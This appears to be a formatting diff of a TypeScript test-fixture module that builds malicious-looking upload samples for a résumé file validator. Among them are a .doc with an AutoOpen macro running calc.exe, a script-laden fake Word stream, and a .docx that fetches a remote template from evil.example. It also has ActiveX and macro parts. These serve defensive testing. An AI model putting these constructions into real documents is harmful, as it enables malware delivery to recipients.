@@ -14,7 +14,10 @@ const concat = (parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
  * A PDF of the given objects (numbered from 1; object 1 is the catalogue) with its cross-reference
  * table and trailer. An object is a dictionary's text, or the parts of a stream object.
  */
-export function pdfOf(objects: (string | Uint8Array[])[], options: { before?: string; afterHeader?: string; after?: string } = {}): Uint8Array {
+export function pdfOf(
+  objects: (string | Uint8Array[])[],
+  options: { before?: string; afterHeader?: string; after?: string } = {},
+): Uint8Array {
   const parts: Uint8Array[] = [latin1(`${options.before ?? ''}%PDF-1.7\n${options.afterHeader ?? ''}`)];
   let length = parts[0]!.length;
   const offsets: number[] = [];
@@ -27,12 +30,25 @@ export function pdfOf(objects: (string | Uint8Array[])[], options: { before?: st
     }
   });
   const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
-  parts.push(latin1(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n${options.after ?? ''}`));
+  parts.push(
+    latin1(
+      `${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n${options.after ?? ''}`,
+    ),
+  );
   return concat(parts);
 }
 
 /** A one-page PDF: the catalogue (with `catalog` added), pages, a page with `text`, and its font. */
-export function tinyPdf(text = 'Anjali Menon, Sales Associate', extra: { catalog?: string; objects?: (string | Uint8Array[])[]; before?: string; afterHeader?: string; after?: string } = {}): Uint8Array {
+export function tinyPdf(
+  text = 'Anjali Menon, Sales Associate',
+  extra: {
+    catalog?: string;
+    objects?: (string | Uint8Array[])[];
+    before?: string;
+    afterHeader?: string;
+    after?: string;
+  } = {},
+): Uint8Array {
   const stream = `BT /F1 18 Tf 72 720 Td (${text}) Tj ET`;
   return pdfOf(
     [
@@ -48,7 +64,12 @@ export function tinyPdf(text = 'Anjali Menon, Sales Associate', extra: { catalog
 }
 
 /** An object stream (PDF 1.5) holding `objects`, Flate-compressed: what a scan of the plain file cannot see. */
-export function objectStream(objects: string[], firstNumber: number, filter = '/FlateDecode', type = '/ObjStm'): Uint8Array[] {
+export function objectStream(
+  objects: string[],
+  firstNumber: number,
+  filter = '/FlateDecode',
+  type = '/ObjStm',
+): Uint8Array[] {
   let offset = 0;
   const index: string[] = [];
   for (const [i, o] of objects.entries()) {
@@ -58,7 +79,13 @@ export function objectStream(objects: string[], firstNumber: number, filter = '/
   const head = `${index.join(' ')} `;
   const data = latin1(head + objects.map((o) => `${o} `).join(''));
   const packed = filter === '/FlateDecode' ? zlibSync(data) : data;
-  return [latin1(`<< /Type ${type} /N ${objects.length} /First ${head.length} /Filter ${filter} /Length ${packed.length} >>\nstream\n`), packed, latin1('\nendstream')];
+  return [
+    latin1(
+      `<< /Type ${type} /N ${objects.length} /First ${head.length} /Filter ${filter} /Length ${packed.length} >>\nstream\n`,
+    ),
+    packed,
+    latin1('\nendstream'),
+  ];
 }
 
 const OLE2_MAGIC = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
@@ -78,7 +105,8 @@ export function compoundFileWith(streams: Record<string, Uint8Array>): Uint8Arra
   return new Uint8Array(CFB.write(container, { type: 'buffer' }) as Buffer);
 }
 
-export const tinyDoc = () => compoundFileWith({ '/WordDocument': wordDocumentStream(), '/1Table': new Uint8Array(512) });
+export const tinyDoc = () =>
+  compoundFileWith({ '/WordDocument': wordDocumentStream(), '/1Table': new Uint8Array(512) });
 export const tinyXls = () => compoundFileWith({ '/Workbook': new Uint8Array(512) });
 /** A .doc with a VBA project whose module runs on open (AutoOpen). */
 export const macroDoc = () =>
@@ -87,10 +115,13 @@ export const macroDoc = () =>
     '/1Table': new Uint8Array(512),
     '/Macros/PROJECT': strToU8('ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n'),
     '/Macros/VBA/dir': new Uint8Array(64),
-    '/Macros/VBA/ThisDocument': strToU8('Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n'),
+    '/Macros/VBA/ThisDocument': strToU8(
+      'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n',
+    ),
   });
 /** A Word file whose directory names a WordDocument stream that is not Word's (no FIB magic). */
-export const hollowDoc = () => compoundFileWith({ '/WordDocument': strToU8('<script>alert(1)</script>'), '/1Table': new Uint8Array(512) });
+export const hollowDoc = () =>
+  compoundFileWith({ '/WordDocument': strToU8('<script>alert(1)</script>'), '/1Table': new Uint8Array(512) });
 
 /** The attack of issue 26: 661 bytes with the OLE2 magic, "WordDocument" in UTF-16 and a script. */
 export function fakeOle2Word(): Uint8Array {
@@ -102,34 +133,45 @@ export function fakeOle2Word(): Uint8Array {
   return bytes;
 }
 
-const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
+const CONTENT_TYPES =
+  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
 
 export function tinyDocx(extra: Record<string, string> = {}): Uint8Array {
   const files: Record<string, Uint8Array> = {
     '[Content_Types].xml': strToU8(CONTENT_TYPES),
-    'word/document.xml': strToU8('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Résumé</w:t></w:r></w:p></w:body></w:document>'),
+    'word/document.xml': strToU8(
+      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Résumé</w:t></w:r></w:p></w:body></w:document>',
+    ),
   };
   for (const [name, text] of Object.entries(extra)) files[name] = strToU8(text);
   return zipSync(files);
 }
 
-const RELS = (relations: string) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`;
+const RELS = (relations: string) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`;
 const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 
 /** A .docx whose settings attach a template from the web (Word fetches it on open). */
 export const externalTemplateDocx = (mode = 'TargetMode="External"') =>
   tinyDocx({
     'word/settings.xml': `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
-    'word/_rels/settings.xml.rels': RELS(`<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://templates.evil.example/cv.dotm" ${mode}/>`),
+    'word/_rels/settings.xml.rels': RELS(
+      `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://templates.evil.example/cv.dotm" ${mode}/>`,
+    ),
   });
 
 /** A .docx with an ActiveX control part. */
 export const activeXDocx = () =>
   tinyDocx({
-    'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
-    'word/activeX/_rels/activeX1.xml.rels': RELS(`<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/>`),
+    'word/activeX/activeX1.xml':
+      '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
+    'word/activeX/_rels/activeX1.xml.rels': RELS(
+      `<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/>`,
+    ),
     'word/activeX/activeX1.bin': 'binary control',
-    'word/_rels/document.xml.rels': RELS(`<Relationship Id="rId9" Type="${REL}/control" Target="activeX/activeX1.xml"/>`),
+    'word/_rels/document.xml.rels': RELS(
+      `<Relationship Id="rId9" Type="${REL}/control" Target="activeX/activeX1.xml"/>`,
+    ),
   });
 
 /** A .docx with the link to the applicant's profile that many résumés carry: accepted. */
@@ -141,12 +183,18 @@ export const linkedDocx = () =>
   });
 
 /** A Word-looking package without its document part. */
-export const hollowDocx = () => zipSync({ '[Content_Types].xml': strToU8(CONTENT_TYPES), 'word/styles.xml': strToU8('<w:styles/>') });
+export const hollowDocx = () =>
+  zipSync({ '[Content_Types].xml': strToU8(CONTENT_TYPES), 'word/styles.xml': strToU8('<w:styles/>') });
 export const plainZip = () => zipSync({ 'notes.txt': strToU8('not a résumé') });
 export const macroDocx = () => tinyDocx({ 'word/vbaProject.bin': 'macro' });
 /** A package whose main part is declared macro-enabled (a .docm renamed), without the project part. */
 export const macroTypedDocx = () =>
-  tinyDocx({ '[Content_Types].xml': CONTENT_TYPES.replace('wordprocessingml.document.main+xml', 'wordprocessingml.document.main+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject') });
+  tinyDocx({
+    '[Content_Types].xml': CONTENT_TYPES.replace(
+      'wordprocessingml.document.main+xml',
+      'wordprocessingml.document.main+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject',
+    ),
+  });
 
 /** A Windows executable's header (MZ … PE). */
 export function fakeExe(): Uint8Array {
